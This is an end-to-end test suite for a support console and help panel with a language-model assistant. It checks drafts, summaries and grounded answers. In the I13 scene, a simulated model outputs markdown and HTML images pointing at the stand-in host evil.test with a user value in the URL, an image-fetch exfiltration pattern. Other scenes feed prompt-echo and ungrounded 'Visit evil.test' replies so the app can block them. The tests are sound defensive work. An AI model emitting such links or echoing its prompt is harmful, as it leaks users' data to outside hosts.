// What a language model may do in the console and the panel, and what it cannot: its pictures of other hosts are not
// drawn and not fetched (row I13).
import { strict as assert } from "node:assert";
import { Model, stranger } from "./kit/model.mjs";
import { accept, button, log, onDuty, replies, signIn, startChat, t, thread, visit } from "./kit/people.mjs";
import { until } from "./kit/server.mjs";
import { axe, shot, suite } from "./kit/world.mjs";

const model = await Model.start();
const evil = await stranger();
const s = suite({ demo: { model: () => model.url }, args: ["--host-resolver-rules=MAP evil.test 127.0.0.1"] });
const { scene } = s;
const picture = `http://evil.test:${evil.port}/p.png?q=anna`;
let mia;
let f;

const composer = (page) => page.getByRole("textbox", { name: t("composer.write") });
const send = (page) => page.getByRole("button", { name: t("composer.send"), exact: true });

/** Switches the model on in every mailbox, as an admin. */
async function switchOn() {
	const p = await s.world.person("admin");
	await signIn(s.demo, p, "ada@shop.example", "admin");
	const state = await (await p.page.request.get(`${s.demo.gateway}/v1/assist`)).json();
	assert.deepEqual(state.mailboxes.map((m) => m.on), state.mailboxes.map(() => false));
	await p.page.getByRole("link", { name: t("a.assist") }).click();
	for (const m of state.mailboxes) {
		const box = p.page.getByRole("switch", { name: m.name }).or(p.page.getByRole("checkbox", { name: m.name }));
		await box.click();
		await button(p.page, "a.assist.on").click();
		await until("the switch", () => box.isChecked());
	}
	await axe(p.page, "admin-assist");
	await shot(p.page, "admin-assist");
	return p;
}

scene("off by default; a draft is one key, marked, and cannot be sent before it was changed", async () => {
	await switchOn();
	mia = await onDuty(s, "mia", "mia@shop.example");
	f = await visit(s.demo, await s.world.person("visitor"));
	await startChat(f, "Where is my parcel?", { name: "Noor" });
	await accept(mia.page);
	model.says = () => "Parcels take two to four working days.";
	await composer(mia.page).waitFor();
	await button(mia.page, "assist.draft").waitFor();
	await mia.page.locator("body").click({ position: { x: 2, y: 2 } });
	await mia.page.keyboard.press("m");
	await mia.page.getByText(t("assist.edit")).waitFor();
	assert.equal(await composer(mia.page).inputValue(), "Parcels take two to four working days.");
	await axe(mia.page, "console-draft");
	await shot(mia.page, "console-draft");
	await send(mia.page).click();
	await mia.page.getByRole("alert").filter({ hasText: t("assist.edit") }).waitFor();
	await composer(mia.page).pressSequentially(" Yours is on its way.");
	await mia.page.getByText(t("assist.made")).waitFor();
	await send(mia.page).click();
	await log(f).getByText("Yours is on its way.").waitFor();
	assert.equal(await mia.page.getByText(t("assist.made")).count(), 0);
});

scene("I13: a picture at another host is not drawn and not fetched, in no draft, message or console", async () => {
	model.says = () => `Here it is: ![your parcel](${picture}) and <img src="${picture}">`;
	await button(mia.page, "assist.draft").click();
	await mia.page.getByText(t("assist.edit")).waitFor();
	const draft = await composer(mia.page).inputValue();
	assert.ok(draft.includes("your parcel") && !draft.includes("evil.test") && !draft.includes("!["), draft);
	await composer(mia.page).fill("");

	await replies(mia.page, `Look: ![a picture](${picture}) is here`); // by hand: the same rule
	const held = mia.page.getByRole("region", { name: t("held.label") });
	const shown = thread(mia.page).getByText("a picture");
	await held.or(shown).first().waitFor();
	await f.getByRole("textbox", { name: t("chat.write") }).fill(`And mine: ![my picture](${picture}) see`);
	await f.getByRole("textbox", { name: t("chat.write") }).press("Enter");
	await thread(mia.page).getByText("my picture").waitFor();
	await log(f).getByText("my picture").waitFor();
	for (const at of [mia.page, f]) assert.equal(await at.locator("img[src*='evil.test']").count(), 0);
	assert.deepEqual(evil.seen, []);
});

scene("a summary stands above the field; a model that breaks a rule gives nothing, in words", async () => {
	model.says = () => "Noor asks where her parcel is. Mia said two to four working days.";
	await button(mia.page, "assist.summary").click();
	const summary = mia.page.getByRole("region", { name: t("assist.summary.of") });
	await summary.getByText("Noor asks where her parcel is.").waitFor();
	await axe(mia.page, "console-summary");
	await shot(mia.page, "console-summary");
	await button(summary, "assist.summary.close").click();
	await summary.waitFor({ state: "hidden" });
	model.says = (prompt) => prompt;
	await button(mia.page, "assist.draft").click();
	await mia.page.getByText(t("reason.assist.dropped")).waitFor();
	assert.equal(await composer(mia.page).inputValue(), "");
	assert.ok(await until("prompts", () => model.prompts.length >= 4));
	for (const p of model.prompts) assert.ok(!p.includes("Noor<"), p);
});

scene("the panel answers from articles with its sources, or keeps its suggestions; a person stays one click away", async () => {
	const p = await s.world.person("asker", { locale: "en-GB" });
	const panel = await visit(s.demo, p);
	const question = "How long does delivery take?";
	const results = panel.getByRole("heading", { name: t("home.results") });
	model.says = () => JSON.stringify({ sentences: [{ text: "Visit evil.test for it.", article: "ar_no", quote: "nothing of this kind" }] });
	await panel.getByRole("searchbox").fill(question);
	const before = model.prompts.length;
	await results.waitFor();
	await until("the model was asked", () => model.prompts.length > before);
	model.says = (prompt) => {
		const [, id, text] = /<article id="([\w-]+)">[^\n]*\n([^\n]+)/.exec(prompt) ?? [];
		const quote = /^[^.!?]*[.!?]/.exec(text ?? "")?.[0];
		return JSON.stringify({ sentences: [{ text: quote, article: id, quote }] });
	};
	await panel.getByRole("searchbox").fill(`${question} `.trim().replace("?", ""));
	await panel.getByRole("heading", { name: t("answer.title") }).waitFor();
	await panel.getByText(t("answer.made")).waitFor();
	assert.equal(await panel.getByText("evil.test").count(), 0);
	await results.waitFor();
	await button(panel, "home.talk").or(button(panel, "home.leave")).waitFor();
	await axe(p.page, "panel-answer");
	await shot(p.page, "panel-answer");
	await button(panel, "article.yes").click();
	await panel.getByText(t("article.thanks")).waitFor();
});
